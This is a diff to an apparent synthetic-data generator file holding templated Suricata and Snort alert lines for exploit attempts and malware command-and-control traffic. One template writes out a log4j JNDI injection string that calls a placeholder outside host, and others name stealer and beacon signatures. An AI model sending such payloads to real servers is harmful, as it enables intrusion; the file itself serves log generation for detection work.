@@ -1,9 +1,9 @@
 """Alerts of Suricata and Snort: break-ins with what came of them, malware that calls home, and what rings every day."""
 
-from generator.families.network.product_story import catalogue
+from generator.families.network.product_story import catalogue_in_parts
 from generator.families.sensors.alert_forms import FORMS
 
-catalogue("sensors/exploit-alerts", FORMS, r"""
+catalogue_in_parts("sensors/exploit-alerts", FORMS, r"""
 RX+@T1190,T1059.004 bad TCP {lan}:<<80|443|8080>> {wan} | GPL ATTACK_RESPONSE id check returned root | payload_printable=uid=0(root) gid=0(root) groups=0(root)
 RX admin TCP {wan} {lan}:<<80|8080>> | ET EXPLOIT Apache log4j RCE Attempt (http ldap) (CVE-2021-44228) | http.hostname={wan2} ; http.url=/?x=${jndi:ldap://{wan}:1389/{word}} ; http.http_method=GET ; http.status=200
 RX web TCP {wan} {lan}:443 | ET WEB_SPECIFIC_APPS <<Atlassian Confluence RCE (CVE-2023-22527)|Ivanti Connect Secure Command Injection (CVE-2024-21887)|Citrix ADC Path Traversal (CVE-2019-19781)|F5 TMUI RCE (CVE-2020-5902)>> M1 | http.url=/template/aui/text-inline.vm ; http.http_method=POST ; http.status=200 ; http.length={big}
@@ -37,7 +37,7 @@ NS bad TCP {lan} {lan2}:135 | ET RPC DCERPC SVCCTL - Remote Service Control Mana
 AE unknown TCP {lan}:80 {lan2} | ET INFO <<Outgoing Basic Auth Base64 HTTP Password detected unencrypted|Python SimpleHTTP ServerBanner|Executable Download from dotted-quad Host>> | http.hostname={lan} ; http.url=/<<firmware.bin|printer/status|agent/setup.exe>> ; http.status=200
 """)
 
-catalogue("sensors/malware-alerts", FORMS, r"""
+catalogue_in_parts("sensors/malware-alerts", FORMS, r"""
 C2 c2 TCP {lan} {wan}:<<80|443|8080|8443>> | ET MALWARE <<Cobalt Strike Beacon Observed|Cobalt Strike Malleable C2 Profile (__session__id Cookie)|Win32/Lumma Stealer CnC Activity|Observed Qbot Variant SSL Certificate|Remcos RAT Checkin|AsyncRAT Style SSL Cert|NanoCore RAT Keep-Alive Beacon (Inbound)|Sliver HTTP Beacon>> | http.hostname={dga} ; http.url=/<<submit.php?id={id}|jquery-3.3.1.min.js|c2sock|{word}/{word}>> ; http.http_method=POST ; http.status=200
 C2@T1071.004 trojan UDP {lan} {lan2}:53 | ET MALWARE <<DNS Query to Cobalt Strike Domain|Observed DNS Query to Gamaredon Domain ({dga})|Suspected SocGholish Domain in DNS Lookup ({dga})|Pegasus Domain in DNS Lookup>> | dns.type=query ; dns.rrname={dga} ; dns.rrtype=A
 C2@T1102 c2 TCP {lan} {wan}:443 | ET MALWARE <<Observed Malicious SSL Cert (AsyncRAT)|Win32/Vidar Variant Stealer CnC Domain (Telegram)|Observed Discord Based Stealer Exfil>> | tls.sni={dga} ; tls.subject=CN={word} ; tls.issuerdn=CN={word}
